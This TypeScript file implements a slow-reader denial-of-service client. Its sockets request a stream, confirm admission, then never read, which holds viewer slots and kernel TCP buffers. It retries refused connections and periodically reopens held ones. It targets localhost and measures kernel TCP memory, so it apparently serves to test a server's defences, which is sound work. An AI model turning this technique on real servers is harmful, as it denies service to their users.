/**
 * Viewers that never read: sockets that connect, ask for the stream, read its head (to learn whether
 * they got in) and then nothing, holding a place under the viewer cap and the kernel's send buffers. A
 * refused one asks again after `retryMs`; every `reopenEveryMs` the attacker also closes and reopens
 * `reopenCount` of the held ones, as a script that keeps places filled would. Bounded by `sockets`.
 */
import { readFile } from 'node:fs/promises';
import { connect, type Socket } from 'node:net';

export interface UnreadAttackOptions {
  port: number;
  path: string;
  /** The local address the sockets come from (any 127.x.y.z on Linux): the server sees one client. */
  localAddress: string;
  sockets: number;
  retryMs: number;
  reopenEveryMs: number;
  reopenCount: number;
}

export interface UnreadAttackStats {
  /** Answers seen, by status. */
  statuses: Record<string, number>;
  /** Sockets holding a stream right now (admitted, never reading). */
  holding: number;
  errors: Record<string, number>;
}

interface Slot {
  socket: Socket | null;
  holding: boolean;
  timer: NodeJS.Timeout | null;
}

export class UnreadAttack {
  private readonly slots: Slot[] = [];
  private readonly stats: UnreadAttackStats = { statuses: {}, holding: 0, errors: {} };
  private reopenTimer: NodeJS.Timeout | null = null;
  private reconnecting = true;
  private stopped = false;

  constructor(private readonly options: UnreadAttackOptions) {}

  start(): void {
    for (let i = 0; i < this.options.sockets; i++) {
      const slot: Slot = { socket: null, holding: false, timer: null };
      this.slots.push(slot);
      this.open(slot);
    }
    this.reopenTimer = setInterval(() => {
      let reopened = 0;
      for (const slot of this.slots) {
        if (reopened >= this.options.reopenCount) break;
        if (!slot.holding) continue;
        reopened += 1;
        this.release(slot);
        this.open(slot);
      }
    }, this.options.reopenEveryMs);
  }

  /** Stops asking again: the held sockets stay open and unread, the refused ones are not retried. */
  stopReconnecting(): void {
    this.reconnecting = false;
    if (this.reopenTimer) clearInterval(this.reopenTimer);
    this.reopenTimer = null;
    for (const slot of this.slots) {
      if (slot.timer) clearTimeout(slot.timer);
      slot.timer = null;
    }
  }

  /** Closes every socket. */
  stop(): void {
    this.stopReconnecting();
    this.stopped = true;
    for (const slot of this.slots) this.release(slot);
  }

  snapshot(): UnreadAttackStats {
    return {
      statuses: { ...this.stats.statuses },
      holding: this.slots.filter((s) => s.holding).length,
      errors: { ...this.stats.errors },
    };
  }

  private release(slot: Slot): void {
    if (slot.timer) clearTimeout(slot.timer);
    slot.timer = null;
    slot.socket?.destroy();
    slot.socket = null;
    slot.holding = false;
  }

  private retry(slot: Slot): void {
    this.release(slot);
    if (!this.reconnecting || this.stopped) return;
    slot.timer = setTimeout(() => {
      slot.timer = null;
      this.open(slot);
    }, this.options.retryMs);
  }

  private open(slot: Slot): void {
    if (this.stopped) return;
    const { port, path, localAddress } = this.options;
    const socket = connect({ port, host: '127.0.0.1', localAddress });
    slot.socket = socket;
    let head = '';
    socket.setEncoding('latin1');
    const onData = (text: string): void => {
      head += text;
      const end = head.indexOf('\r\n\r\n');
      if (end < 0 && head.length < 8192) return;
      socket.off('data', onData);
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(head)?.[1] ?? 'none';
      this.stats.statuses[status] = (this.stats.statuses[status] ?? 0) + 1;
      if (status !== '200') return this.retry(slot);
      // In: read nothing more, ever. (Whatever the server sends fills the kernel's buffers.)
      socket.pause();
      slot.holding = true;
    };
    socket.on('data', onData);
    socket.on('error', (error: NodeJS.ErrnoException) => {
      const code = error.code ?? 'error';
      this.stats.errors[code] = (this.stats.errors[code] ?? 0) + 1;
    });
    socket.on('close', () => {
      if (slot.socket === socket && !slot.holding) this.retry(slot);
    });
    socket.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: never-reads\r\n\r\n`);
  }
}

/** The kernel's TCP memory, in bytes (/proc/net/sockstat counts it in pages, for every socket here). */
export async function kernelTcpMemoryBytes(): Promise<number> {
  const text = await readFile('/proc/net/sockstat', 'utf8');
  const pages = Number(/^TCP:.* mem (\d+)/m.exec(text)?.[1] ?? NaN);
  return pages * 4096;
}
